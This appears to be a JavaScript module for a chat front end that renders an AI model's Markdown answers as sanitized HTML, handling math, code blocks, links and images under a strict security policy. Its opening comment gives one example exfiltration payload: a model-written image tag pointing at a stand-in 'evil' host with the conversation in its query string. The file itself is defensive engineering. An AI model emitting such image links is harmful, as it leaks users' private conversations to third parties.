// markdown.js: a model's answer (untrusted text) -> safe DOM. Markdown by marked, sanitized by DOMPurify,
// then tightened further: no style/id/class from the model, links only to http(s)/mailto and opening in a new
// tab without a referrer, images never loaded (a model-written <img src="https://evil/?q=secret"> would leak
// the conversation), math and code marked for the lazy KaTeX / highlight.js pass (enhance()).
// marked and DOMPurify are the globals of the classic scripts index.html loads before the modules.

const MATH_OPEN = '\uE000'; // private-use characters: marked leaves them alone, and no model writes them
const MATH_CLOSE = '\uE001';

// Finds TeX in Markdown source outside code: $$..$$ and \[..\] (display), \(..\) and $..$ (inline). Returns
// the text with each formula replaced by a placeholder, and the formulas. `$` follows pandoc's rule so that
// prices are not math: the opening `$` is followed by a non-space, the closing one preceded by a non-space
// and not followed by a digit ("$5 and $10" stays text).
export function extractMath(src) {
  const math = [];
  const hold = (tex, display) => {
    math.push({ tex, display });
    return MATH_OPEN + (math.length - 1) + MATH_CLOSE;
  };
  let out = '';
  // Fenced code blocks are copied as they are. A fence not yet closed (while streaming) runs to the end.
  const fence = /^( {0,3})(`{3,}|~{3,})[^\n]*\n?/gm;
  let pos = 0;
  for (;;) {
    fence.lastIndex = pos;
    const open = fence.exec(src);
    if (!open) break;
    out += scanInline(src.slice(pos, open.index), hold);
    const marker = open[2];
    const closeRe = new RegExp('^ {0,3}' + marker[0] + '{' + marker.length + ',}[ \\t]*$', 'gm');
    closeRe.lastIndex = open.index + open[0].length;
    const close = closeRe.exec(src);
    const end = close ? close.index + close[0].length : src.length;
    out += src.slice(open.index, end);
    pos = end;
  }
  out += scanInline(src.slice(pos), hold);
  return { text: out, math };
}

function scanInline(s, hold) {
  let out = '';
  let i = 0;
  while (i < s.length) {
    const c = s[i];
    if (c === '`') { // a code span: copied whole (to its closing run of the same length), else the run alone
      let n = 1;
      while (s[i + n] === '`') n++;
      const run = '`'.repeat(n);
      let j = s.indexOf(run, i + n);
      while (j >= 0 && s[j + n] === '`') j = s.indexOf(run, j + n + 1);
      if (j < 0) {
        out += run;
        i += n;
      } else {
        out += s.slice(i, j + n);
        i = j + n;
      }
      continue;
    }
    if (c === '\\') {
      const next = s[i + 1];
      if (next === '[' || next === '(') {
        const closer = next === '[' ? '\\]' : '\\)';
        const j = s.indexOf(closer, i + 2);
        if (j > i + 2) {
          out += hold(s.slice(i + 2, j).trim(), next === '[');
          i = j + 2;
          continue;
        }
      }
      out += s.slice(i, i + 2); // an escape (\$ stays "\$": marked makes it "$")
      i += 2;
      continue;
    }
    if (c === '$') {
      if (s[i + 1] === '$') {
        const j = s.indexOf('$$', i + 2);
        if (j > i + 2) {
          out += hold(s.slice(i + 2, j).trim(), true);
          i = j + 2;
          continue;
        }
        out += '$$';
        i += 2;
        continue;
      }
      const j = inlineDollarEnd(s, i);
      if (j > 0) {
        out += hold(s.slice(i + 1, j), false);
        i = j + 1;
        continue;
      }
    }
    out += c;
    i++;
  }
  return out;
}

// The index of the `$` closing an inline formula opened at `i`, or -1.
function inlineDollarEnd(s, i) {
  const first = s[i + 1];
  if (first === undefined || /\s/.test(first)) return -1;
  for (let j = i + 1; j < s.length; j++) {
    const c = s[j];
    if (c === '\n') return -1;
    if (c === '\\') {
      j++;
      continue;
    }
    if (c === '$') {
      if (/\s/.test(s[j - 1]) || /[0-9]/.test(s[j + 1] ?? '')) return -1;
      return j > i + 1 ? j : -1;
    }
  }
  return -1;
}

const FORBID_TAGS = ['style', 'form', 'input', 'button', 'textarea', 'select', 'option', 'iframe', 'frame',
  'frameset', 'object', 'embed', 'svg', 'math', 'link', 'meta', 'base', 'dialog', 'template', 'video', 'audio',
  'source', 'track', 'picture', 'canvas'];
const FORBID_ATTR = ['style', 'id', 'name', 'class', 'srcset', 'action', 'formaction', 'background', 'ping'];

const SAFE_LINK = /^(https?:|mailto:)/i;

const escapeHtml = (s) => s.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c]);

// Raw HTML in an answer is shown as text, never parsed: a model has no need to write tags, and parsing them
// even in DOMPurify's inert document makes Chromium report CSP violations for the handlers and styles it
// sees. DOMPurify still cleans what marked itself writes (links, images, code), as a second wall.
let renderer = null;
function markedRenderer() {
  if (!renderer) {
    renderer = new globalThis.marked.Renderer();
    renderer.html = (html) => escapeHtml(typeof html === 'string' ? html : html?.text ?? '');
  }
  return renderer;
}

// Markdown -> {fragment, hasCode, hasMath}. The fragment holds only sanitized nodes; math placeholders are
// <span class="math" data-tex=...> and code blocks are wrapped with a language label and a copy button.
export function renderMarkdown(src, doc = document) {
  const { text, math } = extractMath(String(src ?? ''));
  const html = globalThis.marked.parse(text, { gfm: true, breaks: false, headerIds: false, mangle: false, renderer: markedRenderer() });
  // Code classes (language-xx) are read before class attributes are stripped: marked writes them, but a model
  // can write raw HTML too, so they are taken from <pre><code> only and re-added by us.
  const frag = globalThis.DOMPurify.sanitize(html, {
    RETURN_DOM_FRAGMENT: true,
    FORBID_TAGS,
    FORBID_ATTR: FORBID_ATTR.filter((a) => a !== 'class'),
    ALLOW_DATA_ATTR: false,
  });
  for (const el of frag.querySelectorAll('*')) {
    const lang = el.tagName === 'CODE' && el.parentElement?.tagName === 'PRE'
      ? (/(?:^|\s)language-([\w+#.-]{1,30})/.exec(el.getAttribute('class') || '') || [])[1]
      : undefined;
    for (const a of FORBID_ATTR) el.removeAttribute(a);
    if (lang) el.dataset.lang = lang;
  }
  fixLinks(frag, doc);
  fixImages(frag, doc);
  const hasMath = placeMath(frag, math, doc);
  const hasCode = wrapCode(frag, doc);
  return { fragment: frag, hasCode, hasMath };
}

function fixLinks(frag, doc) {
  for (const a of frag.querySelectorAll('a')) {
    const href = a.getAttribute('href') || '';
    if (!SAFE_LINK.test(href.trim())) { // javascript:, data:, relative paths into the API...: plain text
      a.replaceWith(...a.childNodes);
      continue;
    }
    a.setAttribute('target', '_blank');
    a.setAttribute('rel', 'noopener noreferrer');
    a.setAttribute('referrerpolicy', 'no-referrer');
  }
}

// Images are never fetched: an http(s) one becomes a link the user may choose to open, others their alt text.
function fixImages(frag, doc) {
  for (const img of frag.querySelectorAll('img')) {
    const src = (img.getAttribute('src') || '').trim();
    const label = `[image${img.getAttribute('alt') ? ': ' + img.getAttribute('alt') : ''}]`;
    if (/^https?:/i.test(src)) {
      const a = doc.createElement('a');
      a.href = src;
      a.textContent = label;
      a.className = 'image-link';
      a.setAttribute('target', '_blank');
      a.setAttribute('rel', 'noopener noreferrer');
      a.setAttribute('referrerpolicy', 'no-referrer');
      img.replaceWith(a);
    } else {
      img.replaceWith(doc.createTextNode(label));
    }
  }
}

// Replaces the placeholders in text nodes by <span class="math">, the TeX kept as text until KaTeX comes.
function placeMath(frag, math, doc) {
  if (!math.length) return false;
  const walker = doc.createTreeWalker(frag, NodeFilter.SHOW_TEXT);
  const nodes = [];
  while (walker.nextNode()) if (walker.currentNode.nodeValue.includes(MATH_OPEN)) nodes.push(walker.currentNode);
  const re = new RegExp(MATH_OPEN + '(\\d+)' + MATH_CLOSE, 'g');
  let placed = false;
  for (const node of nodes) {
    const parts = [];
    let last = 0;
    const s = node.nodeValue;
    for (const m of s.matchAll(re)) {
      if (m.index > last) parts.push(doc.createTextNode(s.slice(last, m.index)));
      const f = math[Number(m[1])];
      const span = doc.createElement('span');
      span.className = f.display ? 'math math-display' : 'math';
      span.dataset.tex = f.tex;
      span.dataset.display = f.display ? '1' : '0';
      span.textContent = f.display ? `$$${f.tex}$$` : `$${f.tex}$`;
      parts.push(span);
      placed = true;
      last = m.index + m[0].length;
    }
    if (last < s.length) parts.push(doc.createTextNode(s.slice(last)));
    node.replaceWith(...parts);
  }
  return placed;
}

// <pre><code> -> <div class="code-block"><div class="code-head"><span>lang</span><button>Copy</button></div><pre>…
function wrapCode(frag, doc) {
  const blocks = frag.querySelectorAll('pre');
  for (const pre of blocks) {
    const code = pre.querySelector('code');
    const box = doc.createElement('div');
    box.className = 'code-block';
    const head = doc.createElement('div');
    head.className = 'code-head';
    const label = doc.createElement('span');
    label.className = 'code-lang';
    label.textContent = code?.dataset.lang || 'code';
    const copy = doc.createElement('button');
    copy.type = 'button';
    copy.className = 'copy-code';
    copy.textContent = 'Copy';
    copy.setAttribute('aria-label', 'Copy code');
    head.append(label, copy);
    pre.replaceWith(box);
    box.append(head, pre);
  }
  return blocks.length > 0;
}

// ---- the lazy pass --------------------------------------------------------------------------------------

const loaded = new Map();

// Loads a classic script (or stylesheet) once; resolves when it has run. CSP allows 'self' only, which these are.
export function loadScript(src, doc = document) {
  if (!loaded.has(src)) {
    loaded.set(src, new Promise((resolve, reject) => {
      const s = doc.createElement('script');
      s.src = src;
      s.onload = resolve;
      s.onerror = () => {
        loaded.delete(src);
        reject(new Error(`could not load ${src}`));
      };
      doc.head.append(s);
    }));
  }
  return loaded.get(src);
}

export function loadStyle(href, media, doc = document) {
  const key = href + (media || '');
  if (!loaded.has(key)) {
    const l = doc.createElement('link');
    l.rel = 'stylesheet';
    l.href = href;
    if (media) l.media = media;
    doc.head.append(l);
    loaded.set(key, Promise.resolve());
  }
  return loaded.get(key);
}

export const VENDOR = {
  katexJs: '/vendor/katex/katex.min.js',
  katexCss: '/vendor/katex/katex.min.css',
  hljsJs: '/vendor/highlight.min.js',
  hljsLight: '/vendor/hljs-light.css',
  hljsDark: '/vendor/hljs-dark.css',
};

// Renders math with KaTeX and highlights code with highlight.js inside `root`, loading each library on first
// need. KaTeX builds DOM nodes (render(), not renderToString()+innerHTML) so the strict CSP holds.
export async function enhance(root, { math = true, code = true } = {}) {
  const spans = math ? [...root.querySelectorAll('span.math:not([data-done])')] : [];
  const codes = code ? [...root.querySelectorAll('.code-block pre code:not([data-done])')] : [];
  const jobs = [];
  if (spans.length) {
    loadStyle(VENDOR.katexCss);
    jobs.push(loadScript(VENDOR.katexJs).then(() => {
      for (const span of spans) {
        const tex = span.dataset.tex;
        span.textContent = '';
        globalThis.katex.render(tex, span, { throwOnError: false, displayMode: span.dataset.display === '1' });
        span.dataset.done = '1';
      }
    }));
  }
  if (codes.length) {
    loadStyle(VENDOR.hljsLight, '(prefers-color-scheme: light), (prefers-color-scheme: no-preference)');
    loadStyle(VENDOR.hljsDark, '(prefers-color-scheme: dark)');
    jobs.push(loadScript(VENDOR.hljsJs).then(() => {
      for (const c of codes) {
        const lang = c.dataset.lang;
        if (lang && globalThis.hljs.getLanguage(lang)) c.classList.add('language-' + lang);
        else if (!lang) c.classList.add('nohighlight'); // no guessing: auto-detection is slow and often wrong
        if (lang && globalThis.hljs.getLanguage(lang)) globalThis.hljs.highlightBlock(c);
        c.dataset.done = '1';
      }
    }));
  }
  await Promise.all(jobs);
}
